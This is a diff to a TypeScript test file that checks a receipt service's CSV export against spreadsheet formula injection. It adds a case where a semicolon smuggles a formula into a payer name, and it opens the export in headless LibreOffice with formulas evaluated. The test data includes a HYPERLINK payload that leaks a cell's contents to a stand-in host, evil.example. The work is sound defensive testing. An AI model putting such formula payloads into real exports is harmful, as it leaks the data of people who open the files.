@@ -1,5 +1,5 @@
 import { execFile } from 'node:child_process';
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
@@ -158,11 +158,15 @@ t.test('CSV injection: a payer named =HYPERLINK(…) reaches LibreOffice as text
   });
   const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"Xem")', '+1+2', '-3+4', '@SUM(1,2)'];
   for (const name of attacks) t.equal((await issue(ctx, { ...demoReceipt, payer: { name } })).statusCode, 201, name);
+  // A formula after another separator than the comma: harmless only while the cell is quoted.
+  const semicolon = 'Trần Văn B;=1+1';
+  t.equal((await issue(ctx, { ...demoReceipt, payer: { name: semicolon } })).statusCode, 201);
   clock.set(dayOfThisYear('05-21'));
   const csv = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${dayOfThisYear('05-20')}`, headers: { ...auth(ctx.keys.accountant), accept: 'text/csv' } });
   t.equal(csv.statusCode, 200);
   const rows = parse(csv.body, { bom: true }) as string[][];
-  t.same(rows.slice(1).map((r) => r[7]), attacks.map((a) => `'${a}`), 'every text cell that would start a formula is prefixed');
+  t.same(rows.slice(1).map((r) => r[7]), [...attacks.map((a) => `'${a}`), semicolon], 'every text cell that would start a formula is prefixed');
+  t.match(csv.body, `"${semicolon}"`, 'and every text cell is quoted');
   await writeFile(path.join(dir, 'summary.csv'), csv.rawPayload);
   // LibreOffice's CSV import with "Evaluate formulas" on (token 13): the most dangerous way to open it.
   await run('soffice', ['--headless', `-env:UserInstallation=file://${dir}/profile`, '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true',
@@ -172,6 +176,15 @@ t.test('CSV injection: a payer named =HYPERLINK(…) reaches LibreOffice as text
   t.notMatch(sheet, /<f>|<f /, 'no cell is a formula');
   t.match(await read('xl/sharedStrings.xml'), /HYPERLINK\(&quot;http:\/\/evil\.example/, 'the name is there, as text');
   t.match(sheet, /<c r="K2" s="\d+" t="n"><v>400000<\/v><\/c>/, 'amounts are numbers');
+
+  // Opened with ";" as the separator (Excel's in a Vietnamese locale), formulas evaluated.
+  await mkdir(path.join(dir, 'semicolon'));
+  await run('soffice', ['--headless', `-env:UserInstallation=file://${dir}/profile`, '--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true',
+    '--convert-to', 'xlsx', '--outdir', path.join(dir, 'semicolon'), path.join(dir, 'summary.csv')], { timeout: 120_000 });
+  const readSemi = async (part: string) => (await run('python3', ['-c', 'import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]).decode())', path.join(dir, 'semicolon', 'summary.xlsx'), part])).stdout;
+  t.notMatch(await readSemi('xl/worksheets/sheet1.xml'), /<f>|<f /, 'split on ";", still no cell is a formula');
+  // Each quoted row reads as one cell there: unusable, but text. Unquoted, "=1+1" would be a cell of its own, and a formula.
+  t.match(await readSemi('xl/sharedStrings.xml'), `${semicolon}&quot;`, 'the name with a ";" stays inside text');
 });
 
 t.test('the daily summary: only for an ended day, stored and immutable, complete', async (t) => {
